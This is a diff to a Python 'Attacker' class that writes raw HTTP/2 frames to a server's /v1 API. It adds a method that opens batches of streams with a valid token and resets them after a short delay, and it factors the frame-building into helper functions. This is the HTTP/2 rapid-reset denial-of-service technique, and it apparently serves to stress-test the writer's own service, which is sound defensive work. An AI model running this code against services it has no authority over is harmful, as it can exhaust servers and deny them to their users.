@@ -19,6 +19,8 @@ PATIENCE_S = 20.0
 FLOOD = 60
 """Requests of one token at once."""
 RESETS = 50
+_AT_WORK, _WORK_S = 10, 0.02
+"""So many of them at once, for so long."""
 STREAMS = 90
 """Of one connection at once; the edge takes a hundred."""
 _READ_BYTES = 65_536
@@ -181,7 +183,7 @@ class Attacker:
             for number in range(STREAMS):
                 target = f"/v1/{('contacts', 'tasks')[number % 2]}?limit=200"
                 head = block_of(self._request("GET", target).rstrip())
-                writer.write(len(head).to_bytes(3, "big") + b"\1\5" + (2 * number + 1).to_bytes(4, "big") + head)
+                writer.write(_begun(number, head))
             await asyncio.sleep(PATIENCE_S)
         finally:
             writer.transport.abort()
@@ -196,10 +198,30 @@ class Attacker:
         """Streams that are reset as soon as they are there."""
         reader, writer = await self._connected("h2")
         head = block_of(self._request("GET", "/v1/me", token="").rstrip())
-        writer.write(_PREFACE)
-        for number in range(RESETS):
-            stream = (2 * number + 1).to_bytes(4, "big")
-            writer.write(len(head).to_bytes(3, "big") + b"\1\5" + stream + head)
-            writer.write(b"\0\0\4\3\0" + stream + _RESET_CANCEL)
+        writer.write(_PREFACE + b"".join(_begun(number, head) + _reset(number) for number in range(RESETS)))
         await reader.read(_READ_BYTES)
         writer.transport.abort()
+
+    async def resets_at_work(self) -> None:
+        """Streams of a good token that are reset when somebody works on them, the connection kept for more of them."""
+        _, writer = await self._connected("h2")
+        head = block_of(self._request("GET", "/v1/contacts?limit=200").rstrip())
+        try:
+            writer.write(_PREFACE)
+            for first in range(0, RESETS, _AT_WORK):
+                numbers = range(first, first + _AT_WORK)
+                writer.write(b"".join(_begun(number, head) for number in numbers))
+                await asyncio.sleep(_WORK_S)
+                writer.write(b"".join(_reset(number) for number in numbers))
+            await writer.drain()
+        finally:
+            writer.transport.abort()
+
+
+def _begun(number: int, head: bytes) -> bytes:
+    """HEADERS of a stream of HTTP/2, and nothing after them."""
+    return len(head).to_bytes(3, "big") + b"\1\5" + (2 * number + 1).to_bytes(4, "big") + head
+
+
+def _reset(number: int) -> bytes:
+    return b"\0\0\4\3\0" + (2 * number + 1).to_bytes(4, "big") + _RESET_CANCEL
